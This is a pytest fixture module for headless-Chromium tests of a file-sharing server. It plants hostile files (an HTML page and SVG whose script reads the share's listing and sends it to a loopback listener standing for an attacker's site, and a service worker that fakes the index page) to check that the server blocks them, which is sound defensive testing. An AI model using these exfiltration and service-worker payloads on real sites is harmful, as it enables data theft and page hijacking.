"""Fixtures for the browser tests: one headless Chromium per session, a share with awkward and
hostile files, a plain ``http.server`` over the same folder (the unprotected control), and a
listener on another loopback port that records every request a page sends it."""

from __future__ import annotations

import functools
import http.server
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from playwright.sync_api import Browser, sync_playwright

from net.fileserver import FileServer
from net.share import ShareTable
from tests.browser.chromium import launch
from tests.browser.screenshots import SAMPLES, sample_files, serve
from tests.conftest import WAIT


class Listener:
    """An HTTP server on 127.0.0.1 that records the path of every request (an attacker's site)."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        self._lock = threading.Lock()
        listener = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                with listener._lock:
                    listener.hits.append(self.path)
                self.send_response(204)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            do_POST = do_GET

            def log_message(self, format: str, *args: object) -> None:
                pass

        self._server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self._server.server_port}"
        self._thread = threading.Thread(target=self._server.serve_forever, daemon=True)
        self._thread.start()

    def seen(self) -> list[str]:
        with self._lock:
            return list(self.hits)

    def clear(self) -> None:
        with self._lock:
            self.hits.clear()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()
        self._thread.join(WAIT)


def plain_server(folder: Path) -> http.server.ThreadingHTTPServer:
    """``python -m http.server`` over ``folder``: no CSP, no Content-Disposition (the control)."""

    class Quiet(http.server.SimpleHTTPRequestHandler):
        def log_message(self, format: str, *args: object) -> None:
            pass

    handler = functools.partial(Quiet, directory=str(folder))
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


def hostile_script(listener: str) -> str:
    """What a hostile shared page runs: read the share's list and send it to another site."""
    return f"""
var out = document.getElementById("result");
if (out) {{ out.textContent = "script ran"; }}
fetch("{listener}/ran", {{mode: "no-cors"}});
fetch("/?format=json").then(function (r) {{ return r.text(); }}).then(
  function (text) {{ fetch("{listener}/leak?" + encodeURIComponent(text.slice(0, 300)),
                            {{mode: "no-cors"}}); }},
  function () {{ fetch("{listener}/blocked", {{mode: "no-cors"}}); }});
"""


def hostile_files(folder: Path, listener: str) -> None:
    script = hostile_script(listener)
    (folder / "page.html").write_text(
        f'<!DOCTYPE html><title>hostile</title><p id="result">script did not run</p>'
        f"<script>{script}</script>",
        encoding="utf-8",
    )
    (folder / "evil.svg").write_text(
        '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40">'
        f'<rect width="40" height="40" fill="red"/><script>{script}</script></svg>',
        encoding="utf-8",
    )
    (folder / "install.html").write_text(
        '<!DOCTYPE html><p id="result">script did not run</p><script>'
        'navigator.serviceWorker.register("/sw.js").then('
        f'function () {{ fetch("{listener}/registered", {{mode: "no-cors"}}); }},'
        f'function () {{ fetch("{listener}/refused", {{mode: "no-cors"}}); }});'
        "</script>",
        encoding="utf-8",
    )
    (folder / "sw.js").write_text(
        'self.addEventListener("fetch", function (event) {'
        ' event.respondWith(new Response("<h1>fake index</h1>",'
        ' {headers: {"Content-Type": "text/html"}})); });',
        encoding="utf-8",
    )


#: Awkward names for the layout tests (with the screenshot samples and the hostile files: 22).
AWKWARD: list[tuple[str, bytes | int]] = [
    ("gbk 说明.txt", "你好，世界。这是 GBK 编码的说明。\n".encode("gb18030")),
    ("readme.txt", b"hello\n"),
    ('<b>markup<b> & "quotes".txt', b"x"),
    ("party 🎉 emoji.txt", b"y"),
    ("100% #1 ?.txt", b"z"),
    ("x" * 120 + ".bin", 1),
    ("empty", b""),
    ("Makefile", b"all:\n\ttrue\n"),
]


@dataclass
class Site:
    share: ShareTable
    server: FileServer
    folder: Path
    listener: Listener
    control: str  # base URL of the plain http.server over the same folder

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server.port}"


@pytest.fixture(scope="session")
def browser() -> Iterator[Browser]:
    with sync_playwright() as playwright:
        # Chromium's Local Network Access asks the user before a page may reach another loopback
        # port; headless, nobody answers, so the listener (standing for an attacker's public
        # site) would be out of reach and the controls could never see a leak.
        browser = launch(playwright, "--disable-features=LocalNetworkAccessChecks")
        try:
            yield browser
        finally:
            browser.close()


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    folder = tmp_path_factory.mktemp("site")
    listener = Listener()
    hostile_files(folder, listener.url)
    # Sparse samples are capped at 20 MiB here: hashing gigabytes of zeros would only cost time.
    capped = [(n, c if isinstance(c, bytes) else min(c, 20 << 20)) for n, c in SAMPLES]
    paths = sample_files(folder, capped) + sample_files(folder, AWKWARD)
    paths += [folder / name for name in ("page.html", "evil.svg", "install.html", "sw.js")]
    icon = Path(__file__).parents[2] / "resources" / "icons" / "socket-workbench-64.png"
    paths.append(folder / "icon.png")
    paths[-1].write_bytes(icon.read_bytes())
    control = plain_server(folder)
    with ShareTable() as share:
        for path in paths:
            share.add(path)
        assert share.wait_hashed(60)
        with serve(share, head_timeout=5.0) as server:
            try:
                yield Site(
                    share, server, folder, listener, f"http://127.0.0.1:{control.server_port}"
                )
            finally:
                control.shutdown()
                control.server_close()
                listener.close()
